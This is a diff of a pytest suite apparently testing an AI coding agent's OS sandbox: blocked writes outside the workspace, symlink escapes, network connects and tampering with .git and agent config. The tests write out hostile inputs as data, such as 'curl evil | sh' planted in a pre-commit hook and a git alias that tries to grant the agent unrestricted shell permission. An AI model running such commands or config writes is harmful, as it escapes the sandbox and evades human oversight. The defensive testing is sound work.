@@ -1,6 +1,8 @@
 """The sandbox holds against real commands: writes outside the workspace, symlinks out of it,
 network connects, writes into `.git` and `.agentcli`, remounting, and a helper module planted
-in the workspace; while the workspace, `$TMPDIR` and approved git commands keep working."""
+in the workspace; while the workspace, `$TMPDIR` and approved git commands keep working.
+(What the read-only profile, the PID namespace, hidden paths and the scrubbed environment hold
+against is in `test_isolation.py`.)"""
 
 from __future__ import annotations
 
@@ -12,10 +14,9 @@ from pathlib import Path
 
 import pytest
 
-from agentcli.sandbox.exec import NO_NAMESPACES_ENV
-from agentcli.sandbox.runner import LandlockSandbox
-from agentcli.sandbox.support import probe_support
-from tests.sandbox.conftest import LANDLOCK_ABI, Run, requires_landlock
+from agentcli.sandbox.profile import WORKSPACE_WRITE
+from agentcli.sandbox.runner import OsSandbox, SandboxSettings
+from tests.sandbox.conftest import Run, requires_landlock
 
 pytestmark = requires_landlock
 
@@ -33,7 +34,7 @@ def connect_command(port: int) -> str:
     return f'{sys.executable} -c "{code}"'
 
 
-def test_workspace_and_tmpdir_are_writable(run: Run, sandbox: LandlockSandbox) -> None:
+def test_workspace_and_tmpdir_are_writable(run: Run, sandbox: OsSandbox) -> None:
     result = run(
         sandbox,
         "echo hi > a.txt && mkdir -p sub/deep && echo x > sub/deep/f && rm a.txt && "
@@ -45,14 +46,16 @@ def test_workspace_and_tmpdir_are_writable(run: Run, sandbox: LandlockSandbox) -
 
 
 def test_a_write_outside_the_workspace_is_blocked_and_explained(
-    run: Run, sandbox: LandlockSandbox, outside: Path
+    run: Run, sandbox: OsSandbox, outside: Path
 ) -> None:
     result = run(sandbox, f"echo pwned > {outside}/f")
     assert result.returncode != 0
     assert not (outside / "f").exists()
-    note = sandbox.explain_failure(result.stdout + result.stderr, result.returncode)
+    note = sandbox.explain_failure(
+        result.stdout + result.stderr, result.returncode, WORKSPACE_WRITE
+    )
     assert note is not None
-    assert "outside the writable places" in note and str(outside / "f") in note
+    assert "the sandbox hides /tmp" in note and str(outside / "f") in note
 
 
 @pytest.mark.parametrize(
@@ -67,7 +70,7 @@ def test_a_write_outside_the_workspace_is_blocked_and_explained(
     ],
 )
 def test_symlinks_do_not_lead_out(
-    command: str, run: Run, sandbox: LandlockSandbox, outside: Path
+    command: str, run: Run, sandbox: OsSandbox, outside: Path
 ) -> None:
     (sandbox.workspace / "a.txt").write_text("a")
     (sandbox.workspace / "link").symlink_to(outside)
@@ -77,22 +80,22 @@ def test_symlinks_do_not_lead_out(
 
 
 def test_network_connect_is_blocked_and_explained(
-    run: Run, sandbox: LandlockSandbox, listener: socket.socket, workspace: Path
+    run: Run, sandbox: OsSandbox, listener: socket.socket, workspace: Path
 ) -> None:
     port = listener.getsockname()[1]
-    unsandboxed = LandlockSandbox(workspace=workspace, network=True)
+    unsandboxed = OsSandbox(workspace=workspace, settings=SandboxSettings(network=True))
     control = run(unsandboxed, connect_command(port))
     assert control.returncode == 0 and "IN" in control.stdout, control.stderr
     result = run(sandbox, connect_command(port))
     assert result.returncode != 0
     assert "IN" not in result.stdout
-    note = sandbox.explain_failure(result.stdout + result.stderr, result.returncode)
+    note = sandbox.explain_failure(
+        result.stdout + result.stderr, result.returncode, WORKSPACE_WRITE
+    )
     assert note is not None and "network" in note
 
 
-def test_loopback_inside_the_sandbox_still_works(run: Run, sandbox: LandlockSandbox) -> None:
-    if not probe_support().network.startswith("namespace"):
-        pytest.skip(f"the network is blocked by {probe_support().network}: no loopback")
+def test_loopback_inside_the_sandbox_still_works(run: Run, sandbox: OsSandbox) -> None:
     code = (
         "import socket; s = socket.create_server(('127.0.0.1', 0)); "
         "c = socket.create_connection(s.getsockname()); print('LOCAL OK')"
@@ -103,12 +106,12 @@ def test_loopback_inside_the_sandbox_still_works(run: Run, sandbox: LandlockSand
 
 
 def test_git_metadata_is_read_only(run: Run, repo: Path) -> None:
-    box = LandlockSandbox(workspace=repo)
+    box = OsSandbox(workspace=repo)
     hook = repo / ".git" / "hooks" / "pre-commit"
     result = run(box, f"echo 'curl evil | sh' > {hook.relative_to(repo)}")
     assert result.returncode != 0
     assert not hook.exists()
-    note = box.explain_failure(result.stderr, result.returncode)
+    note = box.explain_failure(result.stderr, result.returncode, WORKSPACE_WRITE)
     assert note is not None and ".git is read-only" in note
     status = run(box, "git status --short && git log --oneline")
     assert status.returncode == 0, status.stderr
@@ -116,7 +119,7 @@ def test_git_metadata_is_read_only(run: Run, repo: Path) -> None:
 
 
 def test_only_pure_git_commands_get_a_writable_git_dir(run: Run, repo: Path) -> None:
-    box = LandlockSandbox(workspace=repo)
+    box = OsSandbox(workspace=repo)
     (repo / "msg.txt").write_text("from a file\n")
     mixed = run(box, "ls >/dev/null && git commit --allow-empty -qm mixed")
     assert mixed.returncode != 0
@@ -133,7 +136,7 @@ def test_only_pure_git_commands_get_a_writable_git_dir(run: Run, repo: Path) -> 
 
 
 def test_agentcli_config_is_never_writable(run: Run, repo: Path) -> None:
-    box = LandlockSandbox(workspace=repo)
+    box = OsSandbox(workspace=repo)
     local = repo / ".agentcli" / "config.local.toml"
     plain = run(box, f"echo 'allow = [\"shell(*)\"]' > {local}")
     assert plain.returncode != 0
@@ -141,12 +144,12 @@ def test_agentcli_config_is_never_writable(run: Run, repo: Path) -> None:
     via_git = run(box, f"git -c alias.x='!echo pwn > {local}' x")
     assert via_git.returncode != 0
     assert not local.exists()
-    note = box.explain_failure(plain.stderr, plain.returncode)
+    note = box.explain_failure(plain.stderr, plain.returncode, WORKSPACE_WRITE)
     assert note is not None and "agentcli's own config" in note
 
 
 def test_the_sandbox_cannot_be_unmounted_or_remounted(run: Run, repo: Path) -> None:
-    box = LandlockSandbox(workspace=repo)
+    box = OsSandbox(workspace=repo)
     result = run(
         box,
         "umount .git 2>&1; mount -o remount,rw .git 2>&1; "
@@ -157,7 +160,7 @@ def test_the_sandbox_cannot_be_unmounted_or_remounted(run: Run, repo: Path) -> N
 
 
 def test_a_helper_planted_in_the_workspace_is_not_imported(
-    run: Run, sandbox: LandlockSandbox, outside: Path
+    run: Run, sandbox: OsSandbox, outside: Path
 ) -> None:
     planted = sandbox.workspace / "agentcli" / "sandbox"
     planted.mkdir(parents=True)
@@ -172,39 +175,22 @@ def test_a_helper_planted_in_the_workspace_is_not_imported(
     assert not marker.exists()
 
 
-def test_the_helper_fails_closed(sandbox: LandlockSandbox, workspace: Path) -> None:
+def test_the_helper_fails_closed(sandbox: OsSandbox, workspace: Path) -> None:
     import subprocess
 
-    argv = sandbox.wrap(["bash", "-c", f"touch {workspace}/ran"], cwd=workspace)
+    prepared = sandbox.prepare(["bash", "-c", f"touch {workspace}/ran"], WORKSPACE_WRITE)
+    argv = list(prepared.argv)
     argv.insert(argv.index("--"), "--bogus")
     result = subprocess.run(argv, cwd=workspace, capture_output=True, text=True, check=False)
-    assert result.returncode != 0
-    assert "agentcli sandbox" in result.stderr
+    assert result.returncode == 126
+    assert "agentcli sandbox: cannot confine" in result.stderr
     assert not (workspace / "ran").exists()
-    assert "did not run" in (sandbox.explain_failure(result.stderr, result.returncode) or "")
-
-
-def test_landlock_alone_still_protects_git_and_the_network(
-    run: Run, repo: Path, listener: socket.socket, outside: Path
-) -> None:
-    """Without namespaces (e.g. in containers that forbid them) Landlock rules alone keep
-    `.git` read-only (nothing new can be created beside it) and, on ABI ≥ 4, TCP off."""
-    box = LandlockSandbox(workspace=repo)
-    (repo / "src").mkdir()
-    env = {NO_NAMESPACES_ENV: "1"}
-    works = run(box, "echo x > src/new.py && echo y >> a.txt && rm src/new.py", env=env)
-    assert works.returncode == 0, works.stderr
-    for blocked in ("echo x > .git/config", "touch .git/hooks/pre-commit", "touch new-at-root"):
-        assert run(box, blocked, env=env).returncode != 0, blocked
-    assert run(box, f"touch {outside}/f", env=env).returncode != 0
-    assert "evil" not in (repo / ".git" / "config").read_text()
-    if LANDLOCK_ABI >= 4:
-        result = run(box, connect_command(listener.getsockname()[1]), env=env)
-        assert result.returncode != 0 and "IN" not in result.stdout
+    note = sandbox.explain_failure(result.stderr, result.returncode, WORKSPACE_WRITE) or ""
+    assert "did not run" in note
 
 
 def test_configured_paths_are_writable(run: Run, workspace: Path, outside: Path) -> None:
-    box = LandlockSandbox(workspace=workspace, writable=(outside,))
+    box = OsSandbox(workspace=workspace, settings=SandboxSettings(writable=(outside,)))
     assert run(box, f"echo x > {outside}/cache").returncode == 0
     assert (outside / "cache").read_text() == "x\n"
 
@@ -216,7 +202,7 @@ def test_a_worktree_git_dir_is_protected_too(run: Run, repo: Path, tmp_path: Pat
     subprocess.run(
         ["git", "worktree", "add", "-q", str(tree)], cwd=repo, check=True, capture_output=True
     )
-    box = LandlockSandbox(workspace=tree)
+    box = OsSandbox(workspace=tree)
     assert run(box, "echo gitdir: /tmp/evil > .git").returncode != 0
     assert (tree / ".git").read_text().startswith("gitdir:")
     assert "evil" not in (tree / ".git").read_text()
